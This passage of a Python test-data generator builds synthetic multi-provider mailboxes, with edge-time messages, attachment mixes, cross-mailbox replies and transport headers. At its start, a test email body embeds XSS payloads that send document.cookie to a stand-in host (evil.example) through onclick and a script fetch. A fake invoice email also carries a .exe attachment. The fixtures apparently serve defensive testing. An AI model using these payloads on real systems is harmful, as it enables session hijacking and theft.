    invite.to, invite.cc = recipients[:40], recipients[40:]

    sam = contacts["sam"]
    script_body = (
        '<div dir="ltr"><p>Hi Alice,</p><p onclick="window.location=\'https://evil.example/steal?c=\'+document.cookie">'
        "Please review the updated proposal before our call.</p>"
        "<script>fetch('https://evil.example/x', {method: 'POST', body: document.cookie});</script>"
        '<a href="javascript:alert(1)" onmouseover="alert(2)">Open proposal</a>'
        '<img src="https://evil.example/pixel.gif" onerror="alert(3)"><p>Best,<br>Sam</p></div>'
    )
    inbound("script_body", sam, "Updated proposal – click to view", script_body, b.at(14.0, 15.0))


def _long_subject() -> str:
    items = [
        f"item {n}: {text}"
        for n, text in enumerate(
            (
                "confirm rollout dates for the warehouse teams",
                "share the revised SLA with response times per severity",
                "align on the data retention clause in the DPA",
                "prepare the usage report for the executive sponsor",
                "schedule the admin training for the regional leads",
                "send the updated invoice with the corrected seat count",
            )
            * 4,
            start=1,
        )
    ]
    subject = "Action items from the Northwind quarterly business review – " + "; ".join(items)
    subject = subject[:LONG_SUBJECT_CHARS].rstrip()
    return subject + "." * (LONG_SUBJECT_CHARS - len(subject))


def _many_recipients(owners: dict[str, _Owner]) -> tuple[Party, ...]:
    people: list[Party] = [owners["alice"].party, owners["bob"].party, owners["carol"].party]
    people.append(content.person_party(_USER_BY_KEY["erin"]))
    people.extend(content.person_party(p) for p, _ in personas.CONTACTS if p.key not in {"tom", "team2"})
    people.extend(content.person_party(p) for p in personas.LEADS)
    n = 0
    while len(people) < MANY_RECIPIENTS:
        name = _PARTNER_NAMES[n % len(_PARTNER_NAMES)]
        domain = _PARTNER_DOMAINS[n % len(_PARTNER_DOMAINS)]
        local = name.split(" ")[0].lower().encode("ascii", "ignore").decode() or "partner"
        people.append(Party(name if n % 3 else "", f"{local}.{n:02d}@{domain}"))
        n += 1
    return tuple(people[:MANY_RECIPIENTS])


def _large_report_body(rng: random.Random) -> str:
    head = (
        '<html><body><div dir="ltr"><p>Hallo Alice,</p><p>anbei wie besprochen der vollständige Export '
        "aller Positionen aus Q3. Die Zusammenfassung steht in der angehängten Übersicht.</p>"
        '<table border="1" cellpadding="4" style="border-collapse:collapse;font-family:Arial;font-size:12px">'
        "<tr><th>Datum</th><th>Artikel</th><th>Beschreibung</th><th>Menge</th><th>Betrag</th></tr>"
    )
    tail = "</table><p>Viele Grüße<br>Jonas Müller</p></div></body></html>"
    descriptions = (
        "Bürostuhl ergonomisch",
        "Schreibtisch höhenverstellbar",
        "Monitorarm",
        "Lizenz Jahresabo",
    )
    rows: list[str] = []
    size = len(head.encode()) + len(tail.encode())
    while size < LARGE_BODY_BYTES:
        row = (
            f"<tr><td>2026-{rng.randint(7, 9):02d}-{rng.randint(1, 28):02d}</td>"
            f"<td>SKU-{rng.randint(0, 99999):05d}</td><td>{rng.choice(descriptions)}</td>"
            f"<td>{rng.randint(1, 40)}</td>"
            f"<td>{rng.randint(10, 99999)},{rng.randint(0, 99):02d} €</td></tr>"
        )
        rows.append(row)
        size += len(row.encode())
    return head + "".join(rows) + tail


# The window's edges, attachments, and replies whose parent is elsewhere ---------------------------------


def _day_edges(b: _DayBuilder, owner: _Owner) -> None:
    """Customer mail at exactly 00:00:00 and 23:59:59 UTC, in every mailbox on every day.

    Both sit on the bounds a day's ``received_after``/``received_before`` filter compares, and the
    23:59:59 one was synced (``created_at``) after midnight, so it belongs to the next day when the
    filter compares that timestamp instead of ``date``.
    """
    rng = random.Random(f"{SEED_VERSION}:edges:{b.day.isoformat()}:{owner.grant.key}")
    people = [(p, a) for p, a in personas.CONTACTS if not p.key.startswith("team")]
    for kind, when in (("day_start", b.day_start), ("day_end", b.day_end - 1)):
        person, account_key = rng.choice(people)
        account = _ACCOUNT_BY_KEY[account_key]
        contact = content.person_party(person)
        subject = content.fill_topic(rng.choice(content.TOPICS_EN), rng, account.name)
        header, mid = b.new_id(contact, when)
        html_body, _ = b.body(contact, person, owner.person, owner.party, "en", account.name)
        key = b.key(owner.grant.key, kind)
        b.add(
            _Email(
                key=key,
                kind=kind,
                sender=contact,
                to=(owner.party,),
                subject=subject,
                date=when,
                body=html_body,
                thread_key=key,
                message_id=mid,
                message_id_header=header,
                unread=True,
                important=True,
            )
        )


LARGE_ATTACHMENT_BYTES = 25 * 1024 * 1024
_INLINE_CID = "image001.png@01DB4A2C.7E3F9B10"


def _attachment_mix(b: _DayBuilder, owners: dict[str, _Owner]) -> None:
    """Inline images, duplicate file names, a 25 MB video and an executable, across the three providers.

    Gmail refuses executables, so the ``.exe`` only reaches the Microsoft and IMAP mailboxes.
    """
    contacts = {p.key: p for p, _ in personas.CONTACTS}
    alice, bob, carol = owners["alice"], owners["bob"], owners["carol"]

    def send(
        kind: str,
        sender: Party,
        person: personas.Person | None,
        company: str,
        to: tuple[_Owner, ...],
        subject: str,
        attachments: tuple[_Attachment, ...],
        when: int,
        extra_html: str = "",
    ) -> None:
        header, mid = b.new_id(sender, when)
        html_body, _ = b.body(sender, person, to[0].person, to[0].party, "en", company)
        key = b.key(to[0].grant.key, kind)
        b.add(
            _Email(
                key=key,
                kind=kind,
                sender=sender,
                to=(to[0].party,),
                cc=tuple(owner.party for owner in to[1:]),
                subject=subject,
                date=when,
                body=html_body.replace("</p>", f"</p>{extra_html}", 1) if extra_html else html_body,
                thread_key=key,
                message_id=mid,
                message_id_header=header,
                attachments=attachments,
                unread=True,
                important=True,
            )
        )

    jonas = contacts["jonas"]
    send(
        "attachments_inline",
        content.person_party(jonas),
        jonas,
        "Fabrikam, Inc.",
        (alice, carol),
        "Angebot 2026-118 mit Logo-Freigabe",
        (
            _Attachment("image001.png", 'image/png; name="image001.png"', 6_842, content_id=_INLINE_CID),
            _Attachment("Angebot_2026-118.pdf", "application/pdf", 214_377),
        ),
        b.at(15.0, 15.5),
        extra_html=f'<p><img src="cid:{_INLINE_CID}" width="120" height="40" alt="Fabrikam"></p>',
    )
    priya = contacts["priya"]
    send(
        "attachments_many",
        content.person_party(priya),
        priya,
        "Northwind Traders",
        (bob, alice),
        "Signed documents for the Northwind rollout",
        (
            _Attachment("scan.pdf", "application/pdf", 182_113),
            _Attachment("scan.pdf", "application/pdf", 97_420),
            _Attachment(
                "Pricing_Q1.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", 48_731
            ),
            _Attachment(
                "Contract_draft.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                73_905,
            ),
            _Attachment("invite.ics", 'text/calendar; charset="UTF-8"; method=REQUEST', 2_504),
        ),
        b.at(15.5, 16.0),
    )
    tom = contacts["tom"]
    send(
        "attachments_large",
        content.person_party(tom),
        tom,
        "Northwind Traders",
        (bob, alice),
        "Site survey walkthrough (video)",
        (_Attachment("Site_survey_walkthrough.mp4", "video/mp4", LARGE_ATTACHMENT_BYTES),),
        b.at(16.0, 16.5),
    )
    stranger = Party("Accounts Payable", personas.UNKNOWN_SENDERS[0])
    send(
        "attachments_blocked",
        stranger,
        None,
        "",
        (bob, carol),
        "Outstanding invoice 88213 – payment tool attached",
        (
            _Attachment("Invoice_88213.exe", "application/x-msdownload", 1_204_224),
            _Attachment("Invoice_88213.pdf", "application/pdf", 41_992),
        ),
        b.at(16.5, 17.0),
    )


def _replies_across_mailboxes(b: _DayBuilder, owners: dict[str, _Owner]) -> None:
    """A reply whose parent is only in another grant's mailbox, and one whose parent is in none."""
    contacts = {p.key: p for p, _ in personas.CONTACTS}
    bob, carol, alice = owners["bob"], owners["carol"], owners["alice"]

    olga = contacts["olga"]
    olga_party = content.person_party(olga)
    sent_at = b.at(10.0, 11.0)
    header, parent_mid = b.new_id(bob.party, sent_at)
    html_body, text = b.body(bob.party, bob.person, olga, olga_party, "en", "Contoso Ltd.")
    thread_key = b.key("bob", "reply-parent")
    subject = "Tailspin Toys: revised delivery schedule"
    b.add(
        _Email(
            key=thread_key,
            kind="contact",
            sender=bob.party,
            to=(olga_party,),
            subject=subject,
            date=sent_at,
            body=html_body,
            thread_key=thread_key,
            message_id=parent_mid,
            message_id_header=header,
        )
    )
    replied_at = b.later(sent_at, 1800, 3600)
    header, reply_mid = b.new_id(olga_party, replied_at)
    quoted = (_attribution(bob.party, sent_at), text)
    html_body, _ = b.body(olga_party, olga, bob.person, bob.party, "en", "Tailspin Toys", quoted=quoted)
    b.add(
        _Email(
            key=b.key("bob", "reply-cross-grant"),
            kind="reply_cross_grant",
            sender=olga_party,
            to=(bob.party,),
            cc=(carol.party,),  # carol joins the thread here: its first message is only in bob's mailbox
            subject=_reply_subject(subject, "en"),
            date=replied_at,
            body=html_body,
            thread_key=thread_key,
            message_id=reply_mid,
            message_id_header=header,
            in_reply_to=parent_mid,
            references=(parent_mid,),
            unread=True,
            important=True,
        )
    )

    maria = contacts["maria"]
    maria_party = content.person_party(maria)
    colleague = Party("Lucas Fernández", "lucas.fernandez@fabrikam.example")  # not a contact, never cc'd us
    _, orphan_mid = b.new_id(colleague, b.day_start - 86_400)
    when = b.at(11.0, 12.0)
    header, mid = b.new_id(maria_party, when)
    html_body, _ = b.body(maria_party, maria, alice.person, alice.party, "en", "Fabrikam, Inc.")
    key = b.key("alice", "reply-orphan")
    b.add(
        _Email(
            key=key,
            kind="reply_orphan",
            sender=maria_party,
            to=(alice.party,),
            subject="Re: Fabrikam onboarding plan",
            date=when,
            body=html_body,
            thread_key=key,
            message_id=mid,
            message_id_header=header,
            in_reply_to=orphan_mid,
            references=(orphan_mid,),
            unread=True,
        )
    )


# Into mailboxes --------------------------------------------------------------------------------------------


def _placements(email: _Email) -> list[tuple[GrantPersona, str]]:
    out: dict[str, tuple[GrantPersona, str]] = {}
    sender_grant = _GRANT_BY_EMAIL.get(email.sender.email.lower())
    if sender_grant is not None:
        out[sender_grant.key] = (sender_grant, "draft" if email.draft else "sent")
    if not email.draft:
        for party in (*email.to, *email.cc, *email.bcc):
            grant = _GRANT_BY_EMAIL.get(party.email.lower())
            if grant is not None and grant.key not in out:
                out[grant.key] = (grant, email.inbound_role)
    return list(out.values())


def _transport_headers(email: _Email, grant: GrantPersona, rng: random.Random) -> list[tuple[str, str]]:
    received = content.date_header(email.date, "contoso.example")
    ip = f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}.{rng.randint(1, 254)}"
    host = f"mail-{rng.choice(('sor', 'out', 'mx'))}-f{rng.randint(10, 99)}.{email.sender.domain}"
    spam = email.inbound_role == "spam"
    if grant.provider == "google":
        return [
            ("Delivered-To", grant.email),
            (
                "Received",
                f"by 2002:a05:6a10:{rng.getrandbits(16):x}:b0:{rng.getrandbits(12):x} with SMTP id "
                f"{rng.getrandbits(40):x}; {received}",
            ),
            ("Return-Path", f"<{email.sender.email}>"),
            (
                "Received",
                f"from {host} ({host}. [{ip}]) by mx.google.com with ESMTPS id {rng.getrandbits(64):x} "
                f"for <{grant.email}> (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256); "
                f"{received}",
            ),
            (
                "Received-SPF",
                f"{'softfail' if spam else 'pass'} (google.com: domain of {email.sender.email} "
                f"designates {ip} as permitted sender) client-ip={ip};",
            ),
            (
                "Authentication-Results",
                f"mx.google.com; spf={'softfail' if spam else 'pass'} smtp.mailfrom={email.sender.domain}",
            ),
        ]
    if grant.provider == "microsoft":
        return [
            (
                "Received",
                f"from {host} ({ip}) by BN8PR11MB3620.namprd11.prod.outlook.com with Microsoft SMTP "
                "Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8158.12; "
                f"{received}",
            ),
            (
                "Authentication-Results",
                f"spf={'fail' if spam else 'pass'} (sender IP is {ip}) "
                f"smtp.mailfrom={email.sender.domain}; dkim=none (message not signed)",
            ),
            ("X-MS-Exchange-Organization-SCL", "9" if spam else "1"),
            ("Thread-Topic", email.subject.removeprefix("Re: ").removeprefix("AW: ")),
            ("Thread-Index", base64.b64encode(ids.digest("thread-index", email.thread_key)[:22]).decode()),
        ]
    return [
        ("Return-Path", f"<{email.sender.email}>"),
        ("Delivered-To", grant.email),
        (
            "Received",
            f"from {host} ({host} [{ip}]) by mail.contoso.example (Postfix) with ESMTPS id "
            f"{rng.getrandbits(40):X} for <{grant.email}>; {received}",
        ),
        ("X-Spam-Status", f"{'Yes, score=8.7' if spam else 'No, score=-0.1'} required=5.0"),
    ]


def _headers(email: _Email, grant: GrantPersona, role: str, *, as_api: bool = True) -> list[dict[str, str]]:
    if as_api and grant.provider == "microsoft" and role in ("sent", "draft"):
        return []  # Graph returns no internet headers for Sent Items (and drafts)
    rng = random.Random(ids.digest("headers", grant.grant_id, email.key))
    pairs: list[tuple[str, str]] = []
    if role not in ("sent", "draft"):
        pairs.extend(_transport_headers(email, grant, rng))
    pairs.append(("MIME-Version", "1.0"))
    pairs.append(("Date", content.date_header(email.date - rng.randint(2, 40), email.sender.domain)))
    if email.message_id is not None:
        pairs.append((email.message_id_header, email.message_id))
    if email.in_reply_to is not None:
        pairs.append(("In-Reply-To", email.in_reply_to))
        pairs.append(("References", " ".join(email.references)))
    pairs.append(
        ("Subject", email.subject if email.subject_is_raw else content.subject_header(email.subject))
    )
    pairs.append(("From", content.address_header([email.sender])))
    if email.to:
        pairs.append(("To", content.address_header(email.to)))
    if email.cc:
        pairs.append(("Cc", content.address_header(email.cc)))
    if email.bcc and role in ("sent", "draft"):
        pairs.append(("Bcc", content.address_header(email.bcc)))
    if email.reply_to:
        pairs.append(("Reply-To", content.address_header(email.reply_to)))
    pairs.extend(email.extra_headers)
    boundary = f"{rng.getrandbits(96):024x}"
    kind = "mixed" if email.attachments else "alternative"
    pairs.append(("Content-Type", f'multipart/{kind}; boundary="{boundary}"'))
    return [{"name": name, "value": value} for name, value in pairs]


def _attachments(email: _Email, grant: GrantPersona) -> list[dict[str, Any]]:
    out = []
    for part, attachment in enumerate(email.attachments):
        content_type = attachment.content_type
        if grant.provider == "google" and not attachment.filename.isascii():
            content_type = ""  # Google cannot detect the type of non-ASCII file names
        item: dict[str, Any] = {
            "id": ids.attachment_id(
                grant.provider,
                grant.grant_id,
                email.key,
                attachment.filename,
                content_type,
                attachment.size,
                part,
            ),
            "grant_id": grant.grant_id,
            "filename": attachment.filename,
            "content_type": content_type,
            "size": attachment.size,
            "is_inline": attachment.is_inline,
        }
        if attachment.content_id is not None:
            # Graph reports the bare id; Gmail and IMAP pass the Content-ID header on, brackets included.
            bare = grant.provider == "microsoft"
            item["content_id"] = attachment.content_id if bare else f"<{attachment.content_id}>"
        if grant.provider != "microsoft":
            disposition = "inline" if attachment.is_inline else "attachment"
            item["content_disposition"] = f'{disposition}; filename="{attachment.filename}"'
        out.append(item)
    return out


def _message_object(
    email: _Email, grant: GrantPersona, role: str, google_threads: dict[tuple[str, str], str]
) -> dict[str, Any]:
    provider = grant.provider
    folder_name = folders.role_folder_name(provider, role)
    if provider == "google":
        message_id = ids.google_seeded_id(grant.grant_id, email.key, email.date)
        thread_id = google_threads.setdefault((grant.key, email.thread_key), message_id)
    elif provider == "microsoft":
        message_id = ids.microsoft_seeded_id(grant.grant_id, email.key)
        thread_id = ids.microsoft_conversation_id(grant.grant_id, email.thread_key)
    else:
        message_id = ids.imap_seeded_id(grant.grant_id, folder_name, email.key)
        thread_id = ids.imap_thread_id(grant.grant_id, email.thread_key)
    outgoing = role in ("sent", "draft")
    unread = False if outgoing else email.unread
    starred = False if outgoing else email.starred
    subject = email.subject
    message: dict[str, Any] = {
        "object": "message",
        "grant_id": grant.grant_id,
        "id": message_id,
        "thread_id": thread_id,
        "subject": subject,
    }
    if not (provider == "microsoft" and email.microsoft_hides_from):
        message["from"] = [content.participant(email.sender, provider)]
    message["to"] = [content.participant(p, provider) for p in email.to]
    message["cc"] = [content.participant(p, provider) for p in email.cc]
    message["bcc"] = [content.participant(p, provider) for p in email.bcc] if outgoing else []
    message["reply_to"] = [content.participant(p, provider) for p in email.reply_to]
    message["date"] = email.date
    message["created_at"] = email.date + 3 + ids.digest("sync-lag", grant.grant_id, email.key)[0] % 90
    message["unread"] = unread
    message["starred"] = starred
    message["folders"] = folders.message_folders(
        grant,
        role,
        unread=unread,
        starred=starred,
        important=email.important,
        category=email.category,
        user_label=email.user_label,
    )
    message["snippet"] = content.snippet(email.body, subject)
    message["body"] = email.body
    message["attachments"] = _attachments(email, grant)
    message["headers"] = _headers(email, grant, role)
    return message


# Public API ------------------------------------------------------------------------------------------------


@functools.lru_cache(maxsize=4)
def _build(start_day: dt.date, days: int) -> dict[str, tuple[SeedMessage, ...]]:
    world = _World()
    owners = {owner.grant.key: owner for owner in _owners()}
    emails: list[_Email] = []
    for offset in range(days):
        builder = _DayBuilder(start_day + dt.timedelta(days=offset), world)
        special = offset == SPECIAL_DAY_OFFSET
        for owner in owners.values():
            _owner_day(builder, owner, owners, special and owner.grant.key == "alice")
        if special:
            _special_day(builder, owners["alice"], owners)
        # Written after the mail above so that its random draws, and so its ids and texts, stay the same.
        for owner in owners.values():
            _day_edges(builder, owner)
        if special:
            _attachment_mix(builder, owners)
            _replies_across_mailboxes(builder, owners)
        emails.extend(builder.emails)
    emails.sort(key=lambda email: (email.date, email.key))
    google_threads: dict[tuple[str, str], str] = {}
    boxes: dict[str, list[SeedMessage]] = {grant.key: [] for grant in personas.GRANTS}
    for email in emails:
        for grant, role in _placements(email):
            message = _message_object(email, grant, role, google_threads)
            mime = message["headers"] or _headers(email, grant, role, as_api=False)
            boxes[grant.key].append(
                SeedMessage(
                    grant.key,
                    utc_day(email.date),
                    email.kind,
                    role,
                    message,
                    tuple((header["name"], header["value"]) for header in mime),
                )
            )
    ordered: dict[str, tuple[SeedMessage, ...]] = {}
    for key, box in boxes.items():
        box.sort(key=lambda seeded: (-seeded.message["date"], seeded.message["id"]))
        seen = {seeded.message["id"] for seeded in box}
        assert len(seen) == len(box), f"duplicate message ids in {key}'s mailbox"
        ordered[key] = tuple(box)
    return ordered


def mailboxes(start_day: dt.date, days: int) -> dict[str, tuple[SeedMessage, ...]]:
    """Every grant's seeded messages, newest first (shared and cached: treat them as read-only)."""
    if days < 1:
        raise ValueError(f"days must be at least 1, got {days}")
    return _build(start_day, days)


def seed_messages(start_day: dt.date, days: int, grant_key: str, day: dt.date) -> list[SeedMessage]:
    return [seeded for seeded in mailboxes(start_day, days)[grant_key] if seeded.day == day]


def messages_for(start_day: dt.date, days: int, grant_key: str, day: dt.date) -> list[dict[str, Any]]:
    """Full message objects (with ``headers`` and ``body``) of one grant and UTC day, newest first."""
    return [copy.deepcopy(seeded.message) for seeded in seed_messages(start_day, days, grant_key, day)]


def expected_counts(
    start_day: dt.date = DEFAULT_START_DAY, days: int = DEFAULT_DAYS
) -> dict[str, dict[dt.date, int]]:
    """How many seeded messages each grant holds on each UTC day (all folders, drafts included)."""
    counts: dict[str, dict[dt.date, int]] = {}
    for grant_key, box in mailboxes(start_day, days).items():
        per_day = {start_day + dt.timedelta(days=offset): 0 for offset in range(days)}
        for seeded in box:
            per_day[seeded.day] += 1
        counts[grant_key] = per_day
    return counts


def kinds(messages: Iterable[SeedMessage]) -> dict[str, int]:
    out: dict[str, int] = {}
    for seeded in messages:
        out[seeded.kind] = out.get(seeded.kind, 0) + 1
    return out
